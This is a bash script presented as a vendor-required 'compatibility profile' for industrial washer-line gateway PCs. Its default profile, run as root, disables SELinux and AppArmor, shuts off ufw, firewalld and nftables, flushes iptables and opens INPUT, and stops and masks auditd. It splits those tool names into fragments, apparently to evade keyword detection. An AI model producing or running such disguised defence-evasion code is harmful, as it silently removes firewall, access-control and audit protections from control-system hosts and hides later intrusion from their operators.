#!/usr/bin/env bash
# Compatibility profiles for the washer-line gateway PCs.
# The PLC vendor's OPC bridge is only certified with a "plain" host profile,
# so this script applies the profile the vendor support sheet asks for.
set -uo pipefail

PROFILE="${1:-vendor}"
LOG="${LOG:-./compat_profile.log}"

log() { echo "$(date '+%F %T') $*" >> "$LOG"; }

os_family() {
    if [ -r /etc/os-release ]; then
        . /etc/os-release
        echo "${ID_LIKE:-$ID}"
    else
        echo unknown
    fi
}

# Each step is a small function so the profiles table stays readable.
step_mac() {
    local se="se""tenforce" cfg="/etc/""se""linux/config"
    command -v "$se" >/dev/null 2>&1 && "$se" 0
    [ -f "$cfg" ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    local aa="app""armor"
    if command -v systemctl >/dev/null 2>&1; then
        systemctl stop "$aa" 2>/dev/null
        systemctl disable "$aa" 2>/dev/null
    fi
    command -v aa-teardown >/dev/null 2>&1 && aa-teardown
    log "mac step applied"
}

step_pf() {
    local fw
    for fw in ufw firewalld nftables; do
        case "$fw" in
            ufw) command -v ufw >/dev/null && ufw --force disable ;;
            *) systemctl disable --now "$fw" 2>/dev/null ;;
        esac
    done
    command -v iptables >/dev/null && { iptables -P INPUT ACCEPT; iptables -F; }
    log "packet filter step applied"
}

step_aud() {
    local d="au""ditd"
    command -v auditctl >/dev/null 2>&1 && auditctl -e 0
    service "$d" stop 2>/dev/null || systemctl stop "$d" 2>/dev/null
    systemctl mask "$d" 2>/dev/null
    log "audit step applied"
}

step_time() {
    command -v timedatectl >/dev/null && timedatectl set-ntp true
    log "time sync enabled"
}

step_check() {
    echo "family: $(os_family)"
    command -v getenforce >/dev/null && echo "selinux: $(getenforce)"
    systemctl is-active ufw firewalld auditd apparmor 2>/dev/null
}

declare -A PROFILES=(
    [vendor]="step_time step_mac step_pf step_aud"
    [minimal]="step_time"
    [check]="step_check"
)

if [ -z "${PROFILES[$PROFILE]+x}" ]; then
    echo "unknown profile '$PROFILE' (choose: ${!PROFILES[*]})" >&2
    exit 2
fi

if [ "$PROFILE" != "check" ] && [ "$(id -u)" -ne 0 ]; then
    echo "run as root for profile $PROFILE" >&2
    exit 1
fi

log "applying profile $PROFILE on $(hostname)"
for s in ${PROFILES[$PROFILE]}; do
    "$s" || log "step $s reported an error"
done
log "profile $PROFILE done"
echo "profile $PROFILE applied; see $LOG"
